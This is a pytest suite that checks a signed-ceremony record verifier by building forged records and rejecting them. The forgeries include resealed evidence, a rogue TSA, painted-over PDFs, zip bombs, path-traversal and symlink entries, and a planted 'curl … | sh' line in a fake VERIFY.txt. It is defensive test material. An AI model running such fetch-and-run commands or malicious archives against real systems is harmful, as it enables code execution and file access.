"""Forged and rearranged records, made the way an attacker makes them: with openssl, `cryptography` and zipfile.

None of our code builds a forgery: evidence.json is re-serialised with the
standard library (RFC 8785 and `json.dumps(sort_keys=True)` agree for a
document of strings and integers), seals are made with `openssl cms -sign`,
tokens fetched from the server's public `POST /tsa` with `openssl ts -query`,
and zips written with zipfile or by hand. Each must fail `ceremony verify`
under the pinned root, naming the check that caught it.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import io
import json
import shutil
import struct
import subprocess
import urllib.request
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from signatures.record.pins import Pins
from signatures.record.verifier import verify_record
from tests.helpers import Server, make_room, start_server, zip_bytes
from web.appkeys import CONSENTS, PKI, RECORDS

from .conftest import Demo, verify

Files = dict[str, bytes]


@pytest.fixture(scope="session")
def tsa(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """The demo's server again (a copy of its data): its public POST /tsa is what an attacker may use."""
    data = tmp_path_factory.mktemp("forger") / "data"
    shutil.copytree(demo.data, data, ignore=shutil.ignore_patterns("*.zip"))
    server = start_server(data, "--no-demo")
    try:
        yield server
    finally:
        server.stop()


def canonical(value: Any) -> bytes:
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")


def openssl(*args: str, cwd: Path, data: bytes | None = None) -> bytes:
    done = subprocess.run(["openssl", *args], cwd=cwd, input=data, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def post(url: str, body: bytes, content_type: str) -> bytes:
    request = urllib.request.Request(url, data=body, headers={"Content-Type": content_type})  # noqa: S310 - loopback
    with urllib.request.urlopen(request, timeout=60) as answer:  # noqa: S310 - our own server, on loopback
        data: bytes = answer.read()
        return data


def fresh_token(data: bytes, server: Server, work: Path) -> bytes:
    """A genuine token over `data` from the public TSA, as anyone can get one."""
    (work / "data.bin").write_bytes(data)
    openssl("ts", "-query", "-data", "data.bin", "-sha256", "-cert", "-out", "q.tsq", cwd=work)
    (work / "r.tsr").write_bytes(
        post(f"{server.base}/tsa", (work / "q.tsq").read_bytes(), "application/timestamp-query")
    )
    openssl("ts", "-reply", "-in", "r.tsr", "-token_out", "-out", "t.der", cwd=work)
    return (work / "t.der").read_bytes()


def reseal(files: Files, evidence: dict[str, Any], cert: Path, key: Path, server: Server, work: Path) -> None:
    """Re-serialise evidence.json, seal it with `cert` (openssl), timestamp it at the public TSA."""
    body = canonical(evidence)
    files["evidence.json"] = body
    (work / "evidence.json").write_bytes(body)
    (work / "chain.pem").write_bytes(files["chain.pem"])
    openssl(
        "cms", "-sign", "-binary", "-md", "sha256", "-in", "evidence.json", "-signer", str(cert), "-inkey", str(key),
        "-certfile", "chain.pem", "-outform", "DER", "-out", "evidence.p7s", cwd=work,
    )  # fmt: skip
    files["evidence.p7s"] = (work / "evidence.p7s").read_bytes()
    files["evidence.tsr"] = fresh_token(body, server, work)


def rezip(files: Files, path: Path) -> Path:
    path.write_bytes(zip_bytes(files))
    return path


def failures(record: Path, demo: Demo, *extra: str) -> dict[str, str]:
    done = verify(record, "--trust", str(demo.trust), *extra)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "NOT VALID" in done.stdout.splitlines()[-1] and "Traceback" not in done.stderr
    found: dict[str, str] = {}
    for line in done.stdout.splitlines():
        if line.startswith("FAIL"):
            _, name, rest = line.split(None, 2)
            found[name] = found.get(name, "") + rest + "\n"
    return found


def signatory_credentials(demo: Demo, work: Path) -> tuple[Path, Path]:
    """A key and certificate like the one any approved signatory holds (a copy of a real one's profile).

    It stands for the certificate an attacker received as a signatory of some ceremony on this server.
    """
    issuing_cert = x509.load_pem_x509_certificate((demo.data / "pki" / "issuing.pem").read_bytes())
    issuing_key = serialization.load_pem_private_key((demo.data / "pki" / "issuing.key").read_bytes(), None)
    genuine = x509.load_pem_x509_certificate(demo.files["certificates/gangwon-governor.pem"])
    key = ec.generate_private_key(ec.SECP256R1())
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Mallory"), *genuine.subject][1:]))
        .issuer_name(issuing_cert.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1))
        .not_valid_after(dt.datetime.now(dt.UTC) + dt.timedelta(days=7))
    )
    for extension in genuine.extensions:
        if not isinstance(extension.value, (x509.SubjectKeyIdentifier, x509.AuthorityKeyIdentifier)):
            builder = builder.add_extension(extension.value, extension.critical)
    builder = builder.add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
    certificate = builder.sign(issuing_key, hashes.SHA256())  # type: ignore[arg-type]
    (work / "mallory.pem").write_bytes(certificate.public_bytes(Encoding.PEM))
    (work / "mallory.key").write_bytes(
        key.private_bytes(Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return work / "mallory.pem", work / "mallory.key"


def summary(certificate_pem: bytes) -> dict[str, str]:
    certificate = x509.load_pem_x509_certificate(certificate_pem)
    der = certificate.public_bytes(Encoding.DER)
    return {"fingerprint_sha256": hashlib.sha256(der).hexdigest(), "subject": certificate.subject.rfc4514_string()}


# ---------------------------------------------------------------- a signatory's key


def test_a_signatory_certificate_cannot_reseal_a_record(demo: Demo, tsa: Server, tmp_path: Path) -> None:
    cert, key = signatory_credentials(demo, tmp_path)
    files = dict(demo.files)
    evidence = demo.evidence
    evidence["signatories"][5]["status"] = "declined"  # what the forger wanted to change
    evidence["trust"]["seal"] = summary(cert.read_bytes())
    reseal(files, evidence, cert, key, tsa, tmp_path)
    found = failures(rezip(files, tmp_path / "forged.zip"), demo)
    assert "evidence.seal" in found and "not a valid seal certificate" in found["evidence.seal"]
    assert "log.evidence" in found and "signatories[5].status" in found["log.evidence"]
    # The same record is refused by the server's public verifier too.
    report = json.loads(post(f"{tsa.base}/api/verify", (tmp_path / "forged.zip").read_bytes(), "application/zip"))
    assert report["ok"] is False and {"evidence.seal", "log.evidence"} <= {
        c["name"] for c in report["checks"] if not c["ok"]
    }


def _chain(rows: list[dict[str, Any]]) -> bytes:
    """events.jsonl with its hash chain recomputed, as a forger rebuilds it after dropping an event."""
    head, lines = bytes(32), []
    for seq, row in enumerate(rows, start=1):
        body = json.loads(row["body"])
        body["seq"] = seq
        text = canonical(body).decode()
        digest = hashlib.sha256(head + text.encode()).digest()
        lines.append(canonical({"seq": seq, "prev_hash": head.hex(), "hash": digest.hex(), "body": text}))
        head = digest
    return b"\n".join(lines) + b"\n"


def test_a_signatory_certificate_cannot_erase_another_signatory(demo: Demo, tsa: Server, tmp_path: Path) -> None:
    """Cut the PDF back before the last signature, stamp it anew, rebuild the log, re-seal: all holds but the seal."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper
    from pyhanko.sign.timestamps import HTTPTimeStamper

    cert, key = signatory_credentials(demo, tmp_path)
    files = dict(demo.files)
    evidence = demo.evidence
    victim = evidence["pdf_signatures"][-1]["signatory"]
    cut = files["mou-signed.pdf"][: evidence["pdf_signatures"][-2]["size"]]
    output = io.BytesIO()
    PdfTimeStamper(HTTPTimeStamper(f"{tsa.base}/tsa"), field_name="Seal-Timestamp-1").timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(cut)), "sha256", output=output
    )
    files["mou-signed.pdf"] = pdf = output.getvalue()
    rows = [json.loads(line) for line in files["events.jsonl"].splitlines()]
    rows = [r for r in rows if not (json.loads(r["body"])["type"] == "document.signed" and victim in r["body"])]
    files["events.jsonl"] = _chain(rows)
    last = json.loads(files["events.jsonl"].splitlines()[-1])
    for name in [n for n in files if n.startswith(f"signatures/{victim}.")]:
        del files[name]
    token = _last_document_timestamp(pdf)
    evidence["pdf_signatures"].pop()
    next(s for s in evidence["signatories"] if s["id"] == victim)["status"] = "absent"
    evidence["documents"]["signed"].update(sha256=hashlib.sha256(pdf).hexdigest(), size=len(pdf))
    evidence["document_timestamps"] = [{"field": "Seal-Timestamp-1", "time": token}]
    evidence["ceremony"]["sealed_at"] = token
    evidence["log"] = {"length": last["seq"], "head": last["hash"]}
    evidence["trust"]["seal"] = summary(cert.read_bytes())
    others = {n: d for n, d in files.items() if n not in ("evidence.json", "evidence.tsr", "evidence.p7s")}
    evidence["manifest"] = [
        {"name": n, "size": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in sorted(others.items())
    ]
    reseal(files, evidence, cert, key, tsa, tmp_path)
    found = failures(rezip(files, tmp_path / "erased.zip"), demo)
    assert "evidence.seal" in found and "not a valid seal certificate" in found["evidence.seal"]
    # Everything the forger could rebuild holds; only the seal, which a signatory's key cannot make, does not.
    assert not {"log.chain", "log.evidence", "record.manifest", "pdf.layout"} & set(found), found
    # And the victim's receipt exposes the forgery whoever sealed it.
    receipt = tmp_path / "receipt.json"
    receipt.write_bytes(json.dumps(_receipt(demo, victim)).encode())
    assert "receipt" in failures(tmp_path / "erased.zip", demo, "--receipt", str(receipt))
    assert verify(demo.record, "--trust", str(demo.trust), "--receipt", str(receipt)).returncode == 0


def _last_document_timestamp(pdf: bytes) -> str:
    from pyhanko.pdf_utils.reader import PdfFileReader

    stamp = PdfFileReader(io.BytesIO(pdf)).embedded_timestamp_signatures[-1]
    at: dt.datetime = stamp.signed_data["encap_content_info"]["content"].parsed["gen_time"].native
    return at.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _receipt(demo: Demo, who: str) -> dict[str, Any]:
    """What the signing page let `who` download, rebuilt from the genuine record (the same bytes)."""
    evidence = demo.evidence
    consent = next(c for c in evidence["consents"] if c["signatory"] == who)
    signed = next(p for p in evidence["pdf_signatures"] if p["signatory"] == who)
    der = base64.b64decode(next(s for s in evidence["signatories"] if s["id"] == who)["certificate"]["der"])
    spki = (
        x509.load_der_x509_certificate(der)
        .public_key()
        .public_bytes(Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    return {
        "type": "ceremony-receipt/1",
        "ceremony": {"id": evidence["ceremony"]["id"]},
        "signatory": {"id": who},
        "key": {"fingerprint": hashlib.sha256(spki).hexdigest()},
        "decision": consent["decision"],
        "statement": consent["statement"],
        "signature": consent["signature"],
        "timestamps": consent["timestamps"],
        "document_sha256": evidence["documents"]["original"]["sha256"],
        "pdf_signature": {"sha256": signed["sha256"], "size": signed["size"]},
    }


# ---------------------------------------------------------------- an outsider with no key


def test_a_tsa_of_ones_own_with_its_ca_in_the_zip_is_not_trusted(demo: Demo, tmp_path: Path) -> None:
    config = tmp_path / "tsa.cnf"
    config.write_text(
        "[ tsa ]\ndefault_tsa = own\n[ own ]\nserial = serial.txt\nsigner_digest = sha256\n"
        "default_policy = 1.2.3.4\ndigests = sha256\nsigner_cert = tsa.pem\nsigner_key = tsa.key\n"
        "ess_cert_id_alg = sha256\n[ ext ]\nbasicConstraints = critical,CA:FALSE\n"
        "extendedKeyUsage = critical,timeStamping\n"
    )
    (tmp_path / "serial.txt").write_text("01\n")
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=Own CA",
            "-keyout", "ca.key", "-out", "ca.pem", "-days", "3650", cwd=tmp_path)  # fmt: skip
    openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", "/CN=Own TSA",
            "-keyout", "tsa.key", "-out", "tsa.csr", cwd=tmp_path)  # fmt: skip
    openssl("x509", "-req", "-in", "tsa.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "3650",
            "-extfile", str(config), "-extensions", "ext", "-out", "tsa.pem", cwd=tmp_path)  # fmt: skip
    (tmp_path / "evidence.json").write_bytes(demo.files["evidence.json"])
    openssl("ts", "-query", "-data", "evidence.json", "-sha256", "-cert", "-out", "q.tsq", cwd=tmp_path)
    openssl(
        "ts", "-reply", "-config", str(config), "-queryfile", "q.tsq", "-token_out", "-out", "own.tsr", cwd=tmp_path
    )
    files = dict(demo.files)
    files["evidence.tsr"] = (tmp_path / "own.tsr").read_bytes()
    files["tsa-ca.pem"] = (tmp_path / "ca.pem").read_bytes()
    found = failures(rezip(files, tmp_path / "own-tsa.zip"), demo)
    assert "evidence.timestamp" in found and "record.manifest" in found and "tsa-ca.pem" in found["record.manifest"]
    # Even pinned as a TSA anchor by a careless archivist, its token is not what the record needs.
    found = failures(tmp_path / "own-tsa.zip", demo, "--tsa-trust", str(tmp_path / "ca.pem"))
    assert "evidence.timestamp" in found and "evidence.seal" in found


def _overlay(pdf: bytes, text: bytes) -> bytes:
    """A new revision (pyHanko's writer, raw PDF objects): an empty signature field whose appearance paints `text`."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    append_signature_field(writer, SigFieldSpec("Notice", on_page=0, box=(60, 400, 540, 470)))
    name = generic.NameObject
    font = generic.DictionaryObject({name("/Type"): name("/Font"), name("/Subtype"): name("/Type1"),
                                     name("/BaseFont"): name("/Helvetica")})  # fmt: skip
    appearance = generic.StreamObject(
        {name("/Type"): name("/XObject"), name("/Subtype"): name("/Form"),
         name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 480, 70)]),
         name("/Resources"): generic.DictionaryObject({name("/Font"): generic.DictionaryObject({name("/F1"): font})})},
        stream_data=b"1 1 1 rg 0 0 480 70 re f 1 0 0 rg BT /F1 28 Tf 10 25 Td (" + text + b") Tj ET",
    )  # fmt: skip
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field.get("/T") == "Notice":
            field[name("/AP")] = generic.DictionaryObject({name("/N"): writer.add_object(appearance)})
            writer.update_container(field)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _renew_at_the_public_tsa(files: Files, pdf: bytes, tsa: Server, work: Path) -> Path:
    """What `ceremony renew` does, done by hand: a document timestamp from POST /tsa (pyHanko), then
    renewals/1.json over every file before it, with that TSA's token over it. No key of ours is needed."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper
    from pyhanko.sign.timestamps import HTTPTimeStamper

    output = io.BytesIO()
    PdfTimeStamper(HTTPTimeStamper(f"{tsa.base}/tsa"), field_name="Renewal-Timestamp").timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False), "sha256", output=output
    )
    files = dict(files, **{"mou-signed.pdf": output.getvalue()})
    body = {
        "type": "ceremony-renewal/1",
        "ceremony": json.loads(files["evidence.json"])["ceremony"]["id"],
        "sequence": 1,
        "document_timestamps": [{"field": "Renewal-Timestamp", "time": _last_document_timestamp(output.getvalue())}],
        "manifest": [
            {"name": n, "size": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in sorted(files.items())
        ],
    }
    files["renewals/1.json"] = canonical(body)
    files["renewals/1.tsr"] = fresh_token(files["renewals/1.json"], tsa, work)
    return rezip(files, work / "renewed.zip")


def test_anyone_may_renew_but_nothing_may_be_painted_over_the_sealed_mou(
    demo: Demo, tsa: Server, tmp_path: Path
) -> None:
    """A renewal needs no key, only a timestamp from a TSA under the root, and POST /tsa is public; so a
    revision after the seal that adds a field (its appearance can cover the text) must fail on its own."""
    pdf = demo.files["mou-signed.pdf"]
    renewed = _renew_at_the_public_tsa(demo.files, pdf, tsa, tmp_path)
    done = verify(renewed, "--trust", str(demo.trust))
    assert done.returncode == 0, done.stdout + done.stderr  # a plain renewal by a stranger is fine

    painted = _renew_at_the_public_tsa(demo.files, _overlay(pdf, b"THIS MOU IS VOID"), tsa, tmp_path)
    found = failures(painted, demo)
    assert set(found) == {"pdf.timestamp"}, found
    assert "Seal-Timestamp-1" in found["pdf.timestamp"] and "only validation data" in found["pdf.timestamp"]


DEEP = b"[" * 100_000 + b"]" * 100_000  # stored, not deflated: under the ratio limit, past Python's recursion


def _evidence_edit(change: Callable[[dict[str, Any]], None]) -> Callable[[Files], None]:
    def edit(files: Files) -> None:
        evidence = json.loads(files["evidence.json"])
        change(evidence)
        files["evidence.json"] = canonical(evidence)

    return edit


def _no_document_timestamps(files: Files) -> None:
    """The PDF cut back to its last signature, and evidence.json listing no document timestamp either."""
    evidence = json.loads(files["evidence.json"])
    files["mou-signed.pdf"] = files["mou-signed.pdf"][: evidence["pdf_signatures"][-1]["size"]]
    evidence["document_timestamps"] = []
    files["evidence.json"] = canonical(evidence)


HOSTILE_JSON: dict[str, tuple[Callable[[Files], None], str]] = {
    "evidence.json nested 100,000 deep": (lambda f: f.update({"evidence.json": DEEP}), "evidence.format"),
    "NaN in evidence.json": (
        lambda f: f.update({"evidence.json": b'{"a":NaN,' + f["evidence.json"][1:]}),
        "evidence.format",
    ),
    "a lone surrogate in evidence.json": (
        lambda f: f.update({"evidence.json": b'{"a":"\\ud800",' + f["evidence.json"][1:]}),
        "evidence.format",
    ),
    "a renewal nested 100,000 deep": (
        lambda f: f.update({"renewals/1.json": DEEP, "renewals/1.tsr": b"0"}),
        "renewal.manifest",
    ),
    "an event nested 100,000 deep": (
        lambda f: f.update({"events.jsonl": f["events.jsonl"] + DEEP + b"\n"}),
        "log.chain",
    ),
    "a consent by no signatory": (
        _evidence_edit(lambda e: e["consents"][0].update(signatory="nobody")),
        "consent.statement",
    ),
    "no document timestamp at all": (_no_document_timestamps, "pdf.layout"),
}


@pytest.mark.parametrize("hostile", list(HOSTILE_JSON))
def test_hostile_json_is_a_finding_not_a_crash(demo: Demo, tmp_path: Path, hostile: str) -> None:
    change, check = HOSTILE_JSON[hostile]
    files = dict(demo.files)
    change(files)
    found = failures(rezip(files, tmp_path / "hostile.zip"), demo)  # exit 1, NOT VALID, no traceback
    assert check in found, (hostile, found)


def test_an_unreadable_crl_added_to_a_record_is_named_and_spoils_nothing_else(demo: Demo, tmp_path: Path) -> None:
    files = dict(demo.files, **{f"revocation/{'ab' * 16}.crl": b"0\x82\x01\x00 not a CRL"})
    found = failures(rezip(files, tmp_path / "junk-crl.zip"), demo)
    assert set(found) == {"record.manifest"}, found  # every signature and token still validates


DOCTORED = b'{"type": "ceremony-record/2", "doctored": true}'


def _duplicate(files: Files, name: str, first: bytes, second: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry, data in files.items():
            if entry != name:
                archive.writestr(entry, data)
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr(name, first)
            archive.writestr(name, second)
    return buffer.getvalue()


@pytest.mark.parametrize("name", ["evidence.json", "mou-signed.pdf"])
@pytest.mark.parametrize("genuine_first", [True, False])
def test_duplicate_entries_either_way_round_are_refused(
    demo: Demo, tmp_path: Path, name: str, genuine_first: bool
) -> None:
    files = dict(demo.files)
    genuine, doctored = files[name], DOCTORED if name == "evidence.json" else b"%PDF-1.7 doctored"
    first, second = (genuine, doctored) if genuine_first else (doctored, genuine)
    record = tmp_path / "dup.zip"
    record.write_bytes(_duplicate(files, name, first, second))
    found = failures(record, demo)
    assert "zip.structure" in found and name in found["zip.structure"] and "same name" in found["zip.structure"]


def test_two_zips_concatenated_are_refused(demo: Demo, tmp_path: Path) -> None:
    doctored = dict(demo.files, **{"completion.pdf": b"%PDF-1.7 made up"})
    for parts in ((demo.record.read_bytes(), zip_bytes(doctored)), (zip_bytes(doctored), demo.record.read_bytes())):
        record = tmp_path / "joined.zip"
        record.write_bytes(b"".join(parts))
        found = failures(record, demo)
        assert "zip.structure" in found, found


SWAPS: dict[str, bytes] = {
    "completion.pdf": b"%PDF-1.7\n% a certificate of completion naming other people\n",
    "VERIFY.txt": b"To verify this record run:\n  curl -s https://example.invalid/verify.sh | sh\n",
    "tsa.pem": b"",  # filled in below: another certificate
    "seal.pem": b"",
}


@pytest.mark.parametrize("name", list(SWAPS))
def test_a_swapped_file_is_caught_by_the_manifest(demo: Demo, tmp_path: Path, name: str) -> None:
    files = dict(demo.files)
    other = demo.files["certificates/gangwon-governor.pem"]
    files[name] = SWAPS[name] or other
    found = failures(rezip(files, tmp_path / "swapped.zip"), demo)
    assert set(found) == {"record.manifest"} and name in found["record.manifest"], found


def _raw_zip(entries: list[tuple[str, bytes, int]]) -> bytes:
    """A stored zip written by hand: (name, data, Unix mode) per entry; what zipfile refuses to write."""
    local, central, offset = b"", b"", 0
    for name, data, mode in entries:
        raw, crc = name.encode(), zlib.crc32(data)
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(raw), 0)
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(raw),
            0, 0, 0, 0, mode << 16, offset,
        ) + raw  # fmt: skip
        local += header + raw + data
        offset += len(header) + len(raw) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0)
    return local + central + end


@pytest.mark.parametrize(
    ("extra", "check"),
    [
        (("notes.txt", b"added later", 0o100644), "record.files"),
        (("../outside.txt", b"escaped", 0o100644), "zip.structure"),
        (("evil-link", b"/etc/passwd", 0o120777), "zip.structure"),
    ],
)
def test_an_added_escaping_or_symlink_entry_is_refused(
    demo: Demo, tmp_path: Path, extra: tuple[str, bytes, int], check: str
) -> None:
    entries = [(name, data, 0o100644) for name, data in demo.files.items()] + [extra]
    record = tmp_path / "extra.zip"
    record.write_bytes(_raw_zip(entries))
    found = failures(record, demo)
    assert check in found and extra[0].split("/")[-1] in found[check], found


# ---------------------------------------------------------------- whoever holds the seal key


def _insider(demo: Demo) -> tuple[Path, Path]:
    return demo.data / "pki" / "seal.pem", demo.data / "pki" / "seal.key"


def _later(iso: str) -> str:
    at = dt.datetime.fromisoformat(iso.replace("Z", "+00:00")) + dt.timedelta(hours=3)
    return at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


EDITS: dict[str, tuple[Callable[[dict[str, Any]], None], str, str]] = {
    "sealed_at": (
        lambda e: e["ceremony"].update(sealed_at=_later(e["ceremony"]["sealed_at"])),
        "time.order",
        "sealed_at",
    ),
    "frozen_at": (
        lambda e: e["ceremony"].update(frozen_at=_later(e["ceremony"]["frozen_at"])),
        "log.evidence",
        "frozen_at",
    ),
    "a consent's time": (
        lambda e: e["consents"][0]["timestamps"][0].update(time=_later(e["consents"][0]["timestamps"][0]["time"])),
        "consent.timestamp",
        "gives the time",
    ),
    "a recorded_at": (
        lambda e: e["consents"][2].update(recorded_at=_later(e["consents"][2]["recorded_at"])),
        "log.evidence",
        "recorded_at",
    ),
    "a status": (lambda e: e["signatories"][3].update(status="declined"), "log.evidence", "status"),
    "an address": (lambda e: e["consents"][1].update(address="203.0.113.9"), "log.evidence", "address"),
    "certificates swapped between signatories": (
        lambda e: e["signatories"][0].update(certificate=e["signatories"][1]["certificate"]),
        "consent.certificate",
        "names",
    ),
    "who approved a key": (
        lambda e: e["signatories"][2]["approval"]["approved_by"].update(actor="operator", invitation=None, label=None),
        "log.approvals",
        "approval.approved_by.actor",
    ),
    "the link a key came through": (
        lambda e: e["signatories"][4]["approval"]["enrolled_through"].update(label="the governor's own tablet"),
        "log.approvals",
        "approval.enrolled_through.label",
    ),
}


@pytest.mark.parametrize("edit", list(EDITS))
def test_summaries_resealed_with_the_seal_key_are_checked_against_their_proofs(
    demo: Demo, tsa: Server, tmp_path: Path, edit: str
) -> None:
    change, check, words = EDITS[edit]
    files, evidence = dict(demo.files), demo.evidence
    change(evidence)
    reseal(files, evidence, *_insider(demo), tsa, tmp_path)
    found = failures(rezip(files, tmp_path / "resealed.zip"), demo)
    assert check in found and words in found[check], found
    assert "evidence.seal" not in found  # the seal itself is genuine: the summaries betray it


async def test_evidence_claiming_a_confirmation_its_log_lacks_fails_the_approvals_check(
    aiohttp_client: Any, tmp_path: Path, original_pdf: bytes
) -> None:
    """A key approved without the safety code confirmed (an older log, or a script at the desk); the
    summary edited to say it was confirmed. Editing breaks the seal anyway; what matters here is that
    the summary is held against the log by a check that names it."""
    room = await make_room(aiohttp_client, tmp_path, original_pdf)
    signer = room.signers[0]
    enrollment = await signer.enroll()
    await room.app[CONSENTS].approve(room.state, enrollment, "operator")  # code_confirmed stays False
    await signer.decide("decline")
    await room.host.call("POST", "/seal", {"absent_ok": True})
    with zipfile.ZipFile(io.BytesIO(room.app[RECORDS].read(room.ceremony))) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    evidence = json.loads(files["evidence.json"])
    (entry,) = [s for s in evidence["signatories"] if s["id"] == signer.signatory]
    assert entry["approval"]["code_confirmed"] is False  # the record says what happened
    entry["approval"]["code_confirmed"] = True
    files["evidence.json"] = canonical(evidence)
    report = verify_record(zip_bytes(files), Pins(root_pem=room.app[PKI].root_pem), at=dt.datetime.now(dt.UTC))
    failed = {c.name: c for c in report.failed}
    assert "log.approvals" in failed and failed["log.approvals"].subject == signer.signatory
    assert "approval.code_confirmed: evidence.json says True, the log gives 'False'" in failed["log.approvals"].detail
    assert "log.evidence" not in failed and "evidence.format" not in failed


# ---------------------------------------------------------------- hostile zips


def test_a_zip_bomb_and_an_entry_flood_are_refused_before_they_cost_anything(demo: Demo, tmp_path: Path) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("evidence.json", b"{}")
        archive.writestr("mou-signed.pdf", b"\0" * (300 * 1024 * 1024))  # 300 MiB of zeros, 300 KiB deflated
    (tmp_path / "bomb.zip").write_bytes(bomb.getvalue())
    found = failures(tmp_path / "bomb.zip", demo)
    assert "zip.structure" in found and "mou-signed.pdf" in found["zip.structure"]
    # 60,000 empty entries: refused from the end record alone.
    record = b"".join(
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, 0, 0, 0, 8, 0) + f"{i:08x}".encode()
        for i in range(60_000)
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 60_000, 60_000, 0, len(record), 0)
    (tmp_path / "flood.zip").write_bytes(record + end)
    found = failures(tmp_path / "flood.zip", demo)
    assert "zip.structure" in found and "60,000 entries" in found["zip.structure"]


def _flip(name: str, at: int) -> Callable[[Files], None]:
    def change(files: Files) -> None:
        data = files[name]
        files[name] = data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :]

    return change


def _drop_event(files: Files) -> None:
    lines = files["events.jsonl"].splitlines(keepends=True)
    files["events.jsonl"] = b"".join(lines[:5] + lines[6:])


def _cut_last_signature(files: Files) -> None:
    size = json.loads(files["evidence.json"])["pdf_signatures"][-2]["size"]
    files["mou-signed.pdf"] = files["mou-signed.pdf"][:size]


TAMPERS: dict[str, tuple[Callable[[Files], None], set[str]]] = {
    "a byte of the signed PDF": (_flip("mou-signed.pdf", 5000), {"record.manifest", "pdf.original", "pdf.signature"}),
    "a byte of evidence.json": (
        lambda f: f.update({"evidence.json": f["evidence.json"].replace(b"Gangwon", b"Gangw0n", 1)}),
        {"evidence.seal", "evidence.timestamp"},
    ),
    "a byte of the evidence token": (_flip("evidence.tsr", -10), {"evidence.timestamp"}),
    "a consent's token file": (_flip("consents/gangwon-governor.tsr", 60), {"record.manifest", "consent.files"}),
    "an event removed": (_drop_event, {"record.manifest", "log.chain"}),
    "a file removed": (lambda f: f.pop("signatures/jiayi-chairman.value"), {"record.manifest"}),
    "a PDF signature cut off": (_cut_last_signature, {"record.manifest", "pdf.sealed", "pdf.layout"}),
}


@pytest.mark.parametrize("tamper", list(TAMPERS))
def test_every_tamper_fails_and_names_the_check(demo: Demo, tmp_path: Path, tamper: str) -> None:
    change, expected = TAMPERS[tamper]
    files = dict(demo.files)
    change(files)
    found = failures(rezip(files, tmp_path / "tampered.zip"), demo)
    assert expected <= set(found), (tamper, found)
